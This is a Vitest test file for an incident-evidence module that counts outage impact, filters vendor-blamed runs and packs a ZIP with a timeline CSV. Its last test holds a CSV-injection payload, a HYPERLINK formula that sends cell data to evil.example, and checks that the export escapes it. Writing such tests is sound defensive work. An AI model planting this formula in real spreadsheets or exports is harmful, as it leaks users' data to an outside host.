import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase } from '../../test/support/db';
import { unzip } from '../../test/support/zip';
import { createDb, type Db } from '../db/client';
import { NotFoundError } from '../errors';
import { insertEmail, insertIncident, insertMessage, seedConversation } from '../../test/support/report-factories';
import { buildEvidenceZip } from './evidence-zip';
import { getIncidentEvidence } from './get-incident-evidence';
import { addIncidentUpdate } from '../incidents/add-incident-update';
import { parse } from 'csv-parse/sync';

const t = (iso: string) => new Date(`${iso}Z`);
const NOW = t('2026-03-01T15:00');
const artifactsDir = path.join(tmpdir(), `chatwatch-evidence-${process.pid}`);
let db: Db;
let incidentId: string;

beforeAll(async () => {
  db = createDb(await createTestDatabase(), 4);
  const real = await seedConversation(db);
  const canary = await seedConversation(db);
  await db.user.update({ where: { id: canary.client.id }, data: { role: 'SYNTHETIC' } });
  const incident = await insertIncident(db, {
    component: 'webhooks',
    startedAt: t('2026-03-01T14:00'),
    detectedAt: t('2026-03-01T14:01'),
    recoveredAt: t('2026-03-01T14:30'),
    faultStartedAt: t('2026-03-01T13:59:30'),
  });
  incidentId = incident.id;
  // Inside the window (14:00 − 2 min lead … 14:30): 3 real messages, 2 of them backfilled; canary traffic is left out.
  await insertMessage(db, {
    conversationId: real.conversation.id,
    senderId: real.client.id,
    sentAt: t('2026-03-01T13:59'),
    source: 'RECONCILED',
  });
  await insertMessage(db, {
    conversationId: real.conversation.id,
    senderId: real.client.id,
    sentAt: t('2026-03-01T14:10'),
    source: 'RECONCILED',
  });
  await insertMessage(db, {
    conversationId: real.conversation.id,
    senderId: real.designer.id,
    sentAt: t('2026-03-01T14:20'),
  });
  await insertMessage(db, {
    conversationId: real.conversation.id,
    senderId: real.client.id,
    sentAt: t('2026-03-01T14:45'),
  });
  await insertMessage(db, {
    conversationId: canary.conversation.id,
    senderId: canary.client.id,
    sentAt: t('2026-03-01T14:05'),
    source: 'RECONCILED',
  });
  // One email sent 10 minutes late, one on time, one still queued; the canary's does not count.
  await insertEmail(db, {
    toUserId: real.designer.id,
    sendAt: t('2026-03-01T14:11'),
    status: 'SENT',
    sentAt: t('2026-03-01T14:21'),
    conversationId: real.conversation.id,
  });
  await insertEmail(db, {
    toUserId: real.designer.id,
    sendAt: t('2026-03-01T14:12'),
    status: 'SENT',
    sentAt: t('2026-03-01T14:12:05'),
  });
  await insertEmail(db, { toUserId: real.client.id, sendAt: t('2026-03-01T14:25'), status: 'QUEUED' });
  await insertEmail(db, { toUserId: canary.client.id, sendAt: t('2026-03-01T14:15'), status: 'QUEUED' });
  // A failed run with steps, browser evidence and files.
  const run = await db.checkRun.create({
    data: {
      check: 'chat-journey',
      trigger: 'SCHEDULED',
      scheduledFor: t('2026-03-01T14:00'),
      counted: true,
      status: 'FAILED',
      startedAt: t('2026-03-01T14:00'),
      durationMs: 10_500,
      components: ['chat_ui', 'webhooks'],
      failedComponent: 'webhooks',
      failedStep: 'webhook-recorded',
      error: 'No webhook for nonce abc within 10 s',
      instanceId: 'test',
      incidentId,
      consoleErrors: [{ frame: 'embed', text: 'WebSocket closed' }],
      failedRequests: [{ frame: 'embed', method: 'GET', url: 'http://vendor.test/x', status: 503 }, 'garbage'],
      steps: {
        create: [
          {
            index: 0,
            name: 'sign-in',
            component: 'chat_ui',
            status: 'PASSED',
            startedAt: t('2026-03-01T14:00'),
            durationMs: 300,
          },
          {
            index: 1,
            name: 'webhook-recorded',
            component: 'webhooks',
            status: 'FAILED',
            startedAt: t('2026-03-01T14:00:01'),
            durationMs: 10_000,
            error: 'timeout',
          },
        ],
      },
    },
  });
  mkdirSync(path.join(artifactsDir, 'runs'), { recursive: true });
  writeFileSync(path.join(artifactsDir, 'runs', 'shot.png'), Buffer.from('png-bytes'));
  await db.checkArtifact.create({
    data: { runId: run.id, kind: 'SCREENSHOT', path: 'runs/shot.png', contentType: 'image/png', bytes: 9 },
  });
  await db.checkArtifact.create({
    data: { runId: run.id, kind: 'TRACE', path: 'runs/gone.zip', contentType: 'application/zip', bytes: 100 },
  });
});

afterAll(async () => {
  await db?.$disconnect();
  rmSync(artifactsDir, { recursive: true, force: true });
});

describe('incident evidence', () => {
  it('counts the real conversations, messages, missing webhooks and delayed emails of the outage', async () => {
    const evidence = await getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId }, now: NOW });
    expect(evidence.affected).toMatchObject({ conversations: 1, messages: 3, webhooksMissing: 2, emailsDelayed: 2 });
    expect(evidence.faultStartedAt).toEqual(t('2026-03-01T13:59:30'));
    expect(evidence.summary).toContain('message webhooks from your platform did not reach our endpoint');
    expect(evidence.summary).toContain(
      '3 real messages were sent in 1 conversation during the outage; 2 webhooks never reached us',
    );
    expect(evidence.runs[0]!.steps.map((s) => s.name)).toEqual(['sign-in', 'webhook-recorded']);
    expect(evidence.runs[0]!.browser).toMatchObject({
      consoleErrors: [{ text: 'WebSocket closed' }],
      failedRequests: [{ status: 503 }],
      unreadable: ['"garbage"'],
    });
  });

  it('lists only the runs blamed on the vendor: a run our own app failed is never vendor evidence', async () => {
    const incident = await insertIncident(db, {
      component: 'chat_ui',
      startedAt: t('2026-03-01T10:00'),
      recoveredAt: t('2026-03-01T10:10'),
    });
    const run = (failedComponent: 'chat_ui' | 'app', minute: number) =>
      db.checkRun.create({
        data: {
          check: 'chat-journey',
          trigger: 'SCHEDULED',
          scheduledFor: t(`2026-03-01T10:0${minute}`),
          counted: true,
          status: 'FAILED',
          startedAt: t(`2026-03-01T10:0${minute}`),
          components: [failedComponent],
          failedComponent,
          failedParty: failedComponent === 'app' ? 'ours' : 'vendor',
          error: failedComponent === 'app' ? 'sign-in refused: Too many attempts' : 'the chat iframe answered 503',
          instanceId: 'test',
          incidentId: incident.id,
        },
      });
    await run('app', 1);
    await run('chat_ui', 2);
    const evidence = await getIncidentEvidence({
      ctx: { db, vendor: 'sandbox' },
      input: { incidentId: incident.id },
      now: NOW,
      forVendor: true,
    });
    expect(evidence.runs.map((r) => r.error)).toEqual(['the chat iframe answered 503']);
    expect(evidence.runCount).toBe(1);
  });

  it('has no vendor summary for an incident of our own part, and refuses it as a vendor evidence pack', async () => {
    const incident = await insertIncident(db, {
      component: 'app',
      startedAt: t('2026-03-01T09:00'),
      recoveredAt: t('2026-03-01T09:05'),
      title: 'App: sign-in refused: Too many attempts',
    });
    const internal = await getIncidentEvidence({
      ctx: { db, vendor: 'sandbox' },
      input: { incidentId: incident.id },
      now: NOW,
    });
    expect(internal).toMatchObject({ summary: null, forVendor: false, incident: { party: 'ours' } });
    await expect(
      getIncidentEvidence({
        ctx: { db, vendor: 'sandbox' },
        input: { incidentId: incident.id },
        now: NOW,
        forVendor: true,
      }),
    ).rejects.toBeInstanceOf(NotFoundError);
  });

  it('has no vendor summary for an incident whose runs were all blamed on us', async () => {
    const incident = await insertIncident(db, {
      component: 'chat_ui',
      startedAt: t('2026-03-01T08:00'),
      recoveredAt: t('2026-03-01T08:05'),
    });
    await db.checkRun.create({
      data: {
        check: 'chat-journey',
        trigger: 'SCHEDULED',
        scheduledFor: t('2026-03-01T08:00'),
        counted: true,
        status: 'FAILED',
        startedAt: t('2026-03-01T08:00'),
        components: ['app'],
        failedComponent: 'app',
        failedParty: 'ours',
        error: 'sign-in refused: Too many attempts',
        instanceId: 'test',
        incidentId: incident.id,
      },
    });
    expect(
      await getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId: incident.id }, now: NOW }),
    ).toMatchObject({ summary: null, forVendor: false, runCount: 1 });
    await expect(
      getIncidentEvidence({
        ctx: { db, vendor: 'sandbox' },
        input: { incidentId: incident.id },
        now: NOW,
        forVendor: true,
      }),
    ).rejects.toBeInstanceOf(NotFoundError);
  });

  it('is not found for an unknown or malformed id', async () => {
    await expect(
      getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId: 'nope' } }),
    ).rejects.toBeInstanceOf(NotFoundError);
    await expect(
      getIncidentEvidence({
        ctx: { db, vendor: 'sandbox' },
        input: { incidentId: '00000000-0000-4000-8000-000000000000' },
      }),
    ).rejects.toBeInstanceOf(NotFoundError);
  });

  it('packs summary, timeline, runs with their files and the PDF into a ZIP, listing files deleted by retention', async () => {
    const evidence = await getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId }, now: NOW });
    const zip = buildEvidenceZip({
      evidence,
      artifactsDir,
      pdf: Buffer.from('%PDF-1.7 test'),
      log: pino({ level: 'silent' }),
    });
    const chunks: Buffer[] = [];
    for await (const chunk of zip) chunks.push(chunk as Buffer);
    const entries = unzip(Buffer.concat(chunks));
    const root = `incident-${incidentId.slice(0, 8)}`;
    expect([...entries.keys()].sort()).toEqual(
      [
        `${root}/README.txt`,
        `${root}/evidence.pdf`,
        `${root}/incident.json`,
        `${root}/summary.txt`,
        `${root}/timeline.csv`,
        `${root}/runs/001-2026-03-01T14-00-00-000Z-chat-journey-attempt1/run.json`,
        `${root}/runs/001-2026-03-01T14-00-00-000Z-chat-journey-attempt1/screenshot.png`,
      ].sort(),
    );
    const run = JSON.parse(
      entries.get(`${root}/runs/001-2026-03-01T14-00-00-000Z-chat-journey-attempt1/run.json`)!.toString(),
    );
    expect(run.missingFiles).toEqual(['trace.zip (deleted after the retention period)']);
    expect(run.steps).toHaveLength(2);
    expect(entries.get(`${root}/summary.txt`)!.toString()).toBe(`${evidence.summary}\n`);
    expect(entries.get(`${root}/timeline.csv`)!.toString().split('\r\n')[0]).toBe('time_utc,kind,author,message');
  });

  it('writes a staff note holding a spreadsheet formula into timeline.csv as text, not a live formula (OWASP CSV injection)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await addIncidentUpdate({ ctx: { db } as never, input: { incidentId, kind: 'NOTE', message: formula } });
    const evidence = await getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId }, now: NOW });
    const zip = buildEvidenceZip({
      evidence,
      artifactsDir,
      pdf: Buffer.from('%PDF-1.7 test'),
      log: pino({ level: 'silent' }),
    });
    const chunks: Buffer[] = [];
    for await (const chunk of zip) chunks.push(chunk as Buffer);
    const timeline = unzip(Buffer.concat(chunks))
      .get(`incident-${incidentId.slice(0, 8)}/timeline.csv`)!
      .toString();
    const messages = (parse(timeline, { columns: true }) as { message: string }[]).map((row) => row.message);
    expect(messages).toContain(`'${formula}`);
    expect(messages.some((m) => /^[=+\-@\t\r]/.test(m))).toBe(false);
  });
});
